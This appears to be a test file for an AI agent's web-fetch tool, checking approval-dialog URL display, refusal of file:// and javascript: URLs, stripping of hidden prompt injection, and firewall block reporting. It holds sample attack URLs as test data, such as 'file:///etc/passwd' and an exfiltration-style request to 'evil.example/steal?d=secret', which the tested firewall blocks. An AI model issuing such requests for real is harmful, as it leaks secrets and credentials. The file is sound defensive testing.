import assert from 'node:assert/strict';
import { webFetchTool } from '../../../../../src/core/agent/tools/webFetchTool';
import { ToolRunner } from '../../../../../src/core/agent/toolRunner';
import { ApprovalGate } from '../../../../../src/core/approval/approvalGate';
import type { ApprovalRequest } from '../../../../../src/core/approval/approver';
import type { AuditEvent } from '../../../../../src/core/audit/auditSink';
import { EgressBlockedError } from '../../../../../src/core/egress/egressBlockedError';
import type { EgressReason } from '../../../../../src/core/egress/egressDecision';
import { EgressLimitError } from '../../../../../src/core/egress/egressLimitError';
import type { SafeFetch } from '../../../../../src/core/egress/safeFetch';
import { policyPackSchema } from '../../../../../src/core/policy/policySchema';
import type { FetchFunction } from '../../../../../src/core/web';
import { HTML, startPageServer, testdata, type PageServer } from '../../web/pageServer';

// Tests may use the global fetch (only src/ is held to SafeFetch); the tool is given it like SafeFetch.
const loopbackFetch: FetchFunction = (input, init) => fetch(input, init);
const signal = new AbortController().signal;

// Type-level: the product's SafeFetch is a FetchFunction, so it can be injected as it is.
const safeFetchFits: (safeFetch: SafeFetch) => FetchFunction = (safeFetch) => safeFetch;
void safeFetchFits;

describe('core/agent/tools/webFetchTool (web.fetch)', () => {
  let server: PageServer;
  before(async () => {
    server = await startPageServer({
      '/docs/cache/': { headers: HTML, body: testdata('docs-article.html') },
      '/tips': { headers: HTML, body: testdata('hidden-injection.html') },
      '/manual.pdf': { headers: { 'content-type': 'application/pdf' }, body: testdata('manual.pdf') },
      '/empty': { headers: HTML, body: '<!doctype html><html><head></head><body></body></html>' },
      '/hello': { headers: { 'content-type': 'text/plain' }, body: 'hello from the second fetch' },
    });
  });
  after(() => server.close());

  describe('plan: what the approval dialog and the tool card show', () => {
    const tool = webFetchTool({ fetch: () => loopbackFetch });
    it('target is the URL without query, fragment or userinfo; summary names host and path; the detail shows the query that would be sent', async () => {
      const plan = await tool.plan({ url: 'https://Docs.Example.com:8443/guide/setup?token=abc123&q=x#install' });
      assert.equal(plan.target, 'https://docs.example.com:8443/guide/setup');
      assert.equal(plan.summary, 'Fetch docs.example.com:8443/guide/setup');
      assert.match(plan.detail, /https:\/\/docs\.example\.com:8443\/guide\/setup\?token=abc123&q=x\n/);
      assert.doesNotMatch(plan.detail, /#install/);
    });
    it('an internationalised host is shown in punycode (no look-alike letters in the dialog)', async () => {
      const plan = await tool.plan({ url: 'https://pаypal.com/login' }); // Cyrillic а
      assert.equal(plan.summary, 'Fetch xn--pypal-4ve.com/login');
    });
    const refused: { trick: string; url: string; message: RegExp }[] = [
      { trick: 'not a URL', url: 'docs.example.com/page', message: /not a valid URL/ },
      { trick: 'ftp://', url: 'ftp://example.com/file', message: /only http:\/\/ and https:\/\/ URLs can be fetched, not ftp:/ },
      { trick: 'file://', url: 'file:///etc/passwd', message: /not file:/ },
      { trick: 'javascript:', url: 'javascript:alert(1)', message: /not javascript:/ },
      { trick: 'credentials in the URL (hidden from the dialog otherwise)', url: 'https://admin:hunter2@example.com/', message: /credentials/ },
    ];
    for (const row of refused) {
      it(`refuses before asking: ${row.trick}`, async () => {
        await assert.rejects(tool.plan({ url: row.url }), row.message);
      });
    }
  });

  describe('run', () => {
    it('returns Source, Title and the Markdown, and a summary with the size', async () => {
      const tool = webFetchTool({ fetch: () => loopbackFetch });
      const result = await tool.run({ url: server.url('/docs/cache/') }, signal);
      assert.ok(result.ok, JSON.stringify(result));
      const [source, title, blank, ...rest] = result.content.split('\n');
      assert.equal(source, `Source: ${server.url('/docs/cache/')}`);
      assert.equal(title, 'Title: Configuring the Widget Cache');
      assert.equal(blank, '');
      const markdown = rest.join('\n');
      assert.match(markdown, /## How the cache works/);
      assert.equal(result.summary, `Fetched ${new URL(server.origin).host} (${markdown.length} chars)`);
    });
    it('hidden prompt injection on the page does not reach the content', async () => {
      const result = await webFetchTool({ fetch: () => loopbackFetch }).run({ url: server.url('/tips') }, signal);
      assert.ok(result.ok);
      assert.doesNotMatch(result.content, /CANARY/);
    });
    it('is bounded by maxChars', async () => {
      const result = await webFetchTool({ fetch: () => loopbackFetch, maxChars: 800 }).run({ url: server.url('/docs/cache/') }, signal);
      assert.ok(result.ok);
      assert.match(result.content, /\[… truncated by Airlock/);
      assert.ok(result.content.split('\n\n').slice(1).join('\n\n').length <= 800);
    });
    it('says so when a page has no readable text', async () => {
      const result = await webFetchTool({ fetch: () => loopbackFetch }).run({ url: server.url('/empty') }, signal);
      assert.ok(result.ok);
      assert.match(result.content, /Title: \(untitled\)\n\n\(The page has no readable text\.\)$/);
      assert.equal(result.summary, `Fetched ${new URL(server.origin).host} (0 chars)`);
    });
    it('a firewall block becomes the error, with the firewall\'s reason', async () => {
      const blocked = new EgressBlockedError({ reason: 'no-rule-matched', detail: 'evil.example is not on the web.fetch allow list', tool: 'web.fetch', host: 'evil.example' });
      const result = await webFetchTool({ fetch: () => () => Promise.reject(blocked) }).run({ url: 'https://evil.example/?q=secret' }, signal);
      assert.deepEqual(result, { ok: false, error: 'Blocked by the Airlock firewall: evil.example is not on the web.fetch allow list.', fix: { tool: 'web.fetch', host: 'evil.example' } });
    });
    it('a block on a port no rule names offers host:port, since a rule without a port covers only the default one', async () => {
      const blocked = new EgressBlockedError({ reason: 'no-rule-matched', detail: 'docs.example.com:8443 is not on the web.fetch allow list', tool: 'web.fetch', host: 'docs.example.com', url: 'https://docs.example.com:8443/guide?[redacted]' });
      const result = await webFetchTool({ fetch: () => () => Promise.reject(blocked) }).run({ url: 'https://docs.example.com:8443/guide?q=1' }, signal);
      assert.ok(!result.ok);
      assert.deepEqual(result.fix, { tool: 'web.fetch', host: 'docs.example.com:8443' });
    });
    it('a block on the default port offers the bare host', async () => {
      const blocked = new EgressBlockedError({ reason: 'no-rule-matched', detail: 'refused', tool: 'web.fetch', host: 'docs.example.com', url: 'https://docs.example.com/guide' });
      const result = await webFetchTool({ fetch: () => () => Promise.reject(blocked) }).run({ url: 'https://docs.example.com/guide' }, signal);
      assert.ok(!result.ok);
      assert.deepEqual(result.fix, { tool: 'web.fetch', host: 'docs.example.com' });
    });
    const noFix: { attack: string; reason: EgressReason; host: string }[] = [
      { attack: 'a host a rule blocks (an allow button would undo the block)', reason: 'blocked-by-rule', host: 'pastebin.com' },
      { attack: 'the cloud metadata endpoint', reason: 'metadata-host', host: 'metadata.google.internal' },
      { attack: 'a private address behind a public name', reason: 'private-address', host: 'rebind.example' },
      { attack: 'a local host name', reason: 'local-host-name', host: 'router.local' },
    ];
    for (const row of noFix) {
      it(`offers no fix for ${row.attack}`, async () => {
        const blocked = new EgressBlockedError({ reason: row.reason, detail: 'refused.', tool: 'web.fetch', host: row.host });
        const result = await webFetchTool({ fetch: () => () => Promise.reject(blocked) }).run({ url: `https://${row.host}/` }, signal);
        assert.ok(!result.ok);
        assert.equal(result.fix, undefined);
      });
    }
    it('a failed DNS lookup is a network failure, not a firewall block, and offers no fix', async () => {
      const unresolved = new EgressBlockedError({ reason: 'unresolvable-host', detail: 'docs.example.com could not be resolved (getaddrinfo ENOTFOUND docs.example.com).', tool: 'web.fetch', host: 'docs.example.com' });
      const result = await webFetchTool({ fetch: () => () => Promise.reject(unresolved) }).run({ url: 'https://docs.example.com/' }, signal);
      assert.deepEqual(result, { ok: false, error: 'Network failure, not a firewall block: docs.example.com could not be resolved (getaddrinfo ENOTFOUND docs.example.com).' });
    });
    it('a block recognised by its code (an error from another copy of the module) is reported the same way', async () => {
      const foreign = Object.assign(new Error('Airlock blocked a web.fetch request to 10.0.0.1: a private address.'), { code: 'EGRESS_DENIED', detail: 'the address 10.0.0.1 is private.' });
      const result = await webFetchTool({ fetch: () => () => Promise.reject(foreign) }).run({ url: 'http://10.0.0.1/' }, signal);
      assert.deepEqual(result, { ok: false, error: 'Blocked by the Airlock firewall: the address 10.0.0.1 is private.' });
    });
    it('a request stopped by one of the firewall\'s bounds says which', async () => {
      const stopped = new EgressLimitError('headers-timeout', 'the server sent no headers within 10 s.', 'web.fetch', 'https://slow.example/');
      const result = await webFetchTool({ fetch: () => () => Promise.reject(stopped) }).run({ url: 'https://slow.example/' }, signal);
      assert.deepEqual(result, { ok: false, error: 'Stopped by the Airlock firewall\'s limits: the server sent no headers within 10 s.' });
    });
    it('a refused content type is the error, naming the type', async () => {
      const result = await webFetchTool({ fetch: () => loopbackFetch }).run({ url: server.url('/manual.pdf') }, signal);
      assert.deepEqual(result, { ok: false, error: 'The server sent application/pdf content; web.fetch reads only text pages (HTML, plain text, Markdown, JSON).' });
    });
    it('an HTTP error status is the error', async () => {
      const result = await webFetchTool({ fetch: () => loopbackFetch }).run({ url: server.url('/missing') }, signal);
      assert.ok(!result.ok);
      assert.match(result.error, /answered 404 Not Found/);
    });
    it('a network failure names the host and the cause', async () => {
      const failing: FetchFunction = () => Promise.reject(new TypeError('fetch failed', { cause: new Error('connect ECONNREFUSED 127.0.0.1:9') }));
      const result = await webFetchTool({ fetch: () => failing }).run({ url: 'http://127.0.0.1:9/' }, signal);
      assert.deepEqual(result, { ok: false, error: 'Could not fetch 127.0.0.1:9: connect ECONNREFUSED 127.0.0.1:9' });
    });
    it('a cancelled run says it was cancelled', async () => {
      const controller = new AbortController();
      controller.abort();
      const result = await webFetchTool({ fetch: () => loopbackFetch }).run({ url: server.url('/docs/cache/') }, controller.signal);
      assert.deepEqual(result, { ok: false, error: 'The fetch was cancelled.' });
    });
    it('asks for the fetch on every call, so a SafeFetch rebuilt after a firewall change is used at once', async () => {
      let current: FetchFunction = () => Promise.reject(new EgressBlockedError({ reason: 'loopback-address', detail: '127.0.0.1 is not allowed', tool: 'web.fetch', host: '127.0.0.1' }));
      const tool = webFetchTool({ fetch: () => current });
      const before = await tool.run({ url: server.url('/hello') }, signal);
      assert.equal(before.ok, false);
      current = loopbackFetch;
      const after = await tool.run({ url: server.url('/hello') }, signal);
      assert.ok(after.ok);
      assert.match(after.content, /hello from the second fetch$/);
    });
  });

  describe('through the ToolRunner', () => {
    function setup(fetchFunction: FetchFunction, requireApproval: boolean): { runner: ToolRunner; asked: ApprovalRequest[]; audit: AuditEvent[] } {
      const asked: ApprovalRequest[] = [];
      const audit: AuditEvent[] = [];
      const gate = new ApprovalGate({ ask: (request) => { asked.push(request); return Promise.resolve({ verdict: 'allow-once' }); } }, { record: () => undefined }, () => 1000);
      const policy = policyPackSchema.parse({ version: 1, name: 'default', tools: { 'web.fetch': { risk: 'medium' } }, approvals: { require: requireApproval ? ['medium'] : [] } });
      const runner = new ToolRunner({ tools: [webFetchTool({ fetch: () => fetchFunction })], policy: () => policy, gate, audit: { record: (event) => audit.push(event) }, workspaceTrusted: () => true });
      return { runner, asked, audit };
    }
    const call = (args: object) => ({ id: 'c1', name: 'web_fetch', arguments: JSON.stringify(args) });

    it('is offered to the model as web_fetch with a url parameter', () => {
      const { runner } = setup(loopbackFetch, false);
      const spec = runner.specs().find((candidate) => candidate.name === 'web_fetch');
      assert.ok(spec);
      assert.match(JSON.stringify(spec.parameters), /"url"/);
    });
    it('rejects a URL longer than 2048 characters before anything runs', async () => {
      let calls = 0;
      const { runner } = setup(() => { calls++; return Promise.reject(new Error('unreachable')); }, false);
      const outcome = await runner.run(call({ url: `https://example.com/${'a'.repeat(2100)}` }), signal, () => undefined);
      assert.equal(outcome.state, 'error');
      assert.equal(calls, 0);
    });
    it('the approval asks about the target without its query, and shows the query in the detail', async () => {
      const { runner, asked } = setup(loopbackFetch, true);
      const outcome = await runner.run(call({ url: `${server.url('/docs/cache/')}?ref=agent` }), signal, () => undefined);
      assert.equal(outcome.state, 'done');
      assert.equal(asked[0]?.target, server.url('/docs/cache/'));
      assert.match(asked[0]?.detail ?? '', /\?ref=agent/);
    });
    it('a firewall block shows on the tool card and goes to the model and the audit log with its reason', async () => {
      const blocked = new EgressBlockedError({ reason: 'no-rule-matched', detail: 'evil.example is not on the web.fetch allow list', tool: 'web.fetch', host: 'evil.example' });
      const { runner, audit } = setup(() => Promise.reject(blocked), false);
      const outcome = await runner.run(call({ url: 'https://evil.example/steal?d=secret' }), signal, () => undefined);
      assert.equal(outcome.state, 'error');
      assert.equal(outcome.content, 'Error: Blocked by the Airlock firewall: evil.example is not on the web.fetch allow list.');
      assert.equal(audit.at(-1)?.reason, 'Blocked by the Airlock firewall: evil.example is not on the web.fetch allow list.');
      assert.equal(audit.at(-1)?.target, 'https://evil.example/steal');
      assert.deepEqual(outcome.fix, { tool: 'web.fetch', host: 'evil.example' }, 'the card offers to allow the host');
    });
  });
});
